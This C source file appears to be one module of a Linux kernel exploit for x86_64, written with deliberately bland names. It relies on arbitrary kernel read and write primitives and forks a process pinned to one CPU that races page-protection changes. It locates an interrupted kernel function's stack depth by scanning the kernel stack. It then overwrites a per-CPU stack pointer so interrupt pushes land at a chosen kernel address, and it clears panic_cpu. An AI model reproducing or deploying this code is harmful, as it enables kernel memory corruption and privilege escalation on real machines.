// SPDX-License-Identifier: GPL-2.0-only
/* A process that changes entries, and where its CPU pushes what it interrupts. */
#include <setjmp.h>
#include <signal.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "changer.h"
#include "objects.h"

#ifdef __x86_64__
#define CHANGER_CPU	1
#define CHANGED_PART	0x58
#define CHANGED_TABLES	64
#define FUNCTION	"change_in_section"
#define FUNCTION_SIZE	0x1000
#define KERNEL_CS	0x10
#define PUSHED		64	/* bytes up to rdx */
#define ALIGNMENT	16UL
#define SECONDS		20
#define POPULATE	23
#define PAUSE		500000	/* microseconds */

static uint64_t top, normal, depth;

static struct {
	volatile bool ready, calibrated, go, gone;
} *changer;

static size_t changed_size(void)
{
	return CHANGED_TABLES * PMD_SIZE;
}

static void change(int protection)
{
	mprotect((void *)user_room(CHANGED_PART), changed_size(), protection);
}

static void run_changer(void)
{
	stay_on_cpu(CHANGER_CPU);
	changer->ready = true;
	while (!changer->calibrated) {
		change(PROT_READ);
		change(PROT_READ | PROT_WRITE);
		madvise((void *)user_room(CHANGED_PART), changed_size(), POPULATE);
	}
	while (!changer->go)
		;
	change(PROT_READ);
	changer->gone = true;
	for (;;)
		;
}

/* How far below its top the section has the stack pointer. */
static uint64_t find_depth(const struct task *task, uint64_t top)
{
	uint64_t function = ksymbol(FUNCTION), words[2048];
	time_t end = time(NULL) + SECONDS;
	size_t i;

	while (time(NULL) < end) {
		for (i = 0; i < sizeof(words); i += PAGE_SIZE)
			kread(task->stack + i, (char *)words + i, PAGE_SIZE);
		for (i = 0; i < sizeof(words) / 8 - 4; i++)
			if (words[i] - function < FUNCTION_SIZE && words[i + 1] == KERNEL_CS &&
			    words[i + 3] - task->stack < sizeof(words))
				return top - words[i + 3];
	}
	return 0;
}

const char *changer_start(void)
{
	struct task task;
	pid_t pid;

	changer = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (mmap((void *)user_room(CHANGED_PART), changed_size(), PROT_READ | PROT_WRITE,
		 MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_POPULATE, -1, 0) == MAP_FAILED)
		return "no memory";
	pid = fork();
	if (!pid)
		run_changer();
	while (!changer->ready)
		usleep(1000);
	ktask(pid, &task);
	normal = task.stack + task.stack_size;
	top = cpu_stack_end(CHANGER_CPU, normal);
	depth = top ? find_depth(&task, normal) : 0;
	changer->calibrated = true;
	usleep(PAUSE);
	return depth ? NULL : "no interrupt of a section was seen";
}

bool changer_push(uint64_t end)
{
	int zero = 0;

	kwrite(ksymbol("panic_cpu"), &zero, sizeof(zero));
	if (kread64(top) != normal)
		return false;
	kwrite64(top, end + PUSHED + ((depth + ALIGNMENT - 1) & -ALIGNMENT));
	changer->go = true;
	usleep(PAUSE);
	if (changer->gone)
		kwrite64(top, normal);
	return true;
}

bool changer_came_back(void)
{
	return changer->gone;
}

static sigjmp_buf no_page;

static void on_fault(int signal)
{
	siglongjmp(no_page, signal);
}

bool can_read(const volatile void *page)
{
	signal(SIGSEGV, on_fault);
	signal(SIGBUS, on_fault);
	if (sigsetjmp(no_page, 1))
		return false;
	(void)*(const volatile char *)page;
	return true;
}
#endif
